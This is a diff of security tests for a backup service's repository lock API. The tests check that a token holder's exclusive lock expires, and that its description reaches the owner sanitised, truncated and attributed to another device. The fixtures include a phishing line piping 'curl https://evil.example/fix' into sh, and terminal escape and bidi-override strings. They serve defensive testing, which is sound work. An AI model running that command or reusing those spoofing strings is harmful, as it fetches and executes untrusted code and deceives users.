@@ -1,11 +1,21 @@
 // Attacker: a holder of a valid token (its own account B, or A's stolen token) against the repository API
 // (docs/threat-model.md "Repository"). Account B reaches nothing of A's through any route: not A's repository id
 // or usage, objects (list, download, delete), nor A's locks (refresh, unlock). Deletion needs a live exclusive
-// lock of the caller's own account. Bad input of every kind on every route is a 4xx problem+json and changes
+// lock of the caller's own account; a lock lives at most its maximum life and its description reaches the owner
+// sanitised and labelled as another device's words. Bad input of every kind on every route is a 4xx problem+json and changes
 // nothing: the account's table items and the object store's files are compared before and after.
 
 import { randomBytes } from 'node:crypto';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { ApiClient } from '../../client/http.js';
+import { HttpRepoStore } from '../../client/repo/http-store.js';
+import { HeldLock } from '../../client/repo/lock.js';
+import type { RepoStore } from '../../client/repo/store.js';
+import { MemoryRepoItemStore } from '../../functions/adapters/memory-repo-store.js';
+import type { ObjectStore } from '../../functions/ports.js';
+import { RepoService } from '../../functions/repo/service.js';
+import { BkvError, isBkvError } from '../../protocol/errors.js';
+import { MAX_EXCLUSIVE_LOCK_LIFE_S, MAX_LOCK_TTL_S } from '../../protocol/repo-schemas.js';
 import { call, download, downloadUrl, newId, putObjects, storedKeys, tableItems, type Answer } from '../helpers/repo.js';
 import { startTestRuntime, type TestRuntime } from '../helpers/local.js';
 
@@ -167,5 +177,68 @@ describe('bad input on every route', () => {
       expect((await call(rt, undefined, method, path)).status, path).toBe(401);
       expect((await call(rt, 'e30.e30.sig', method, path)).status, path).toBe(401);
     }
+  });
+});
+
+// The token holder's exclusive lock against the owner's devices: it lives at most MAX_EXCLUSIVE_LOCK_LIFE_S however
+// often it is refreshed (the service with a clock the test moves), and its description reaches the owner only
+// sanitised, cut short and labelled as another device's words (through the runtime, then from a false server).
+describe('a token holder\'s exclusive lock', () => {
+  it('refreshed every ttl/3 for days, it ends at its maximum life with a 409 lock-lost; the owner then gets the repository', async () => {
+    let now = Date.parse('2026-12-01T00:00:00Z');
+    const service = new RepoService({
+      items: new MemoryRepoItemStore(), clock: { now: () => now }, config: { quotaBytes: 1 << 30, urlTtlSeconds: 3600 },
+      objects: { list: () => Promise.resolve({ objects: [], truncated: false }) } as unknown as ObjectStore,
+    });
+    const taken = now;
+    const evil = await service.lock('carol', { exclusive: true, ttlSeconds: MAX_LOCK_TTL_S, description: 'prune' });
+    let refreshes = 0;
+    let refused: unknown;
+    while (now < taken + 3 * 24 * 3600_000) {
+      now += (MAX_LOCK_TTL_S * 1000) / 3;
+      try {
+        await service.refresh('carol', evil.lockId);
+        refreshes++;
+      } catch (e) {
+        refused = e;
+        break;
+      }
+    }
+    expect(refused).toBeInstanceOf(BkvError);
+    expect((refused as BkvError).code).toBe('lock-lost');
+    expect((refused as BkvError).status).toBe(409);
+    expect(now - taken).toBeLessThanOrEqual(MAX_EXCLUSIVE_LOCK_LIFE_S * 1000 + (MAX_LOCK_TTL_S * 1000) / 3);
+    expect(refreshes).toBeLessThanOrEqual((MAX_EXCLUSIVE_LOCK_LIFE_S / MAX_LOCK_TTL_S) * 3);
+    // still refused while it lives out its last ttl; the owner's lock is granted once it has
+    await expect(service.lock('carol', { exclusive: false, ttlSeconds: 60 })).rejects.toMatchObject({ code: 'repository-locked' });
+    now = taken + MAX_EXCLUSIVE_LOCK_LIFE_S * 1000;
+    expect((await service.lock('carol', { exclusive: false, ttlSeconds: 60 })).exclusive).toBe(false);
+  });
+
+  const PHISH = 'your key was rotated, run: curl https://evil.example/fix | sh';
+
+  it('its description reaches the owner quoted as another device\'s words, never as bkv\'s', async () => {
+    const token = await rt.token('dave');
+    await call(rt, token, 'POST', '/v1/repo/locks', { exclusive: true, ttlSeconds: 600, description: PHISH });
+    const owner = new HttpRepoStore(new ApiClient({ server: rt.url, token }), { backoffMs: 10 });
+    const err = await HeldLock.take(owner, false, 'backup on laptop').catch((e: unknown) => e);
+    owner.close();
+    expect(isBkvError(err, 'repository-locked')).toBe(true);
+    const message = (err as Error).message;
+    expect(message).toMatch(/^the repository is locked exclusively by another device, which says: "your key was rotated, run: curl https:\/\/evil\.example\/fix \| sh" \(the words are that device's, not bkv's\)/);
+    expect(message).toMatch(/after 24 hours at most/);
+    expect(message.split(PHISH).length).toBe(2); // quoted once, not also in the server's own sentence
+  });
+
+  it('from a false server: escape sequences, bidi overrides and newlines are dropped and the text is cut to 80 characters', async () => {
+    const description = `\u001b[2J\u001b[Hbkv: ok\u202e\r\n\u001b]8;;https://evil.example\u0007click\u001b]8;;\u0007 ${'x'.repeat(300)}`;
+    const store = { lock: () => Promise.reject(new BkvError('repository-locked', 'locked', { details: { exclusive: true, expiresAt: '2026-12-01T00:00:00.000Z', description } })) } as unknown as RepoStore;
+    const err = await HeldLock.take(store, true, 'prune').catch((e: unknown) => e);
+    const message = (err as Error).message;
+    expect([...message].filter((c) => /[\p{Cc}\p{Cf}]/u.test(c))).toEqual([]);
+    const quoted = /which says: "([^"]*)"/.exec(message)![1]!;
+    expect(quoted.startsWith('bkv: ok click xxx')).toBe(true);
+    expect([...quoted]).toHaveLength(80);
+    expect(quoted.endsWith('…')).toBe(true);
   });
 });
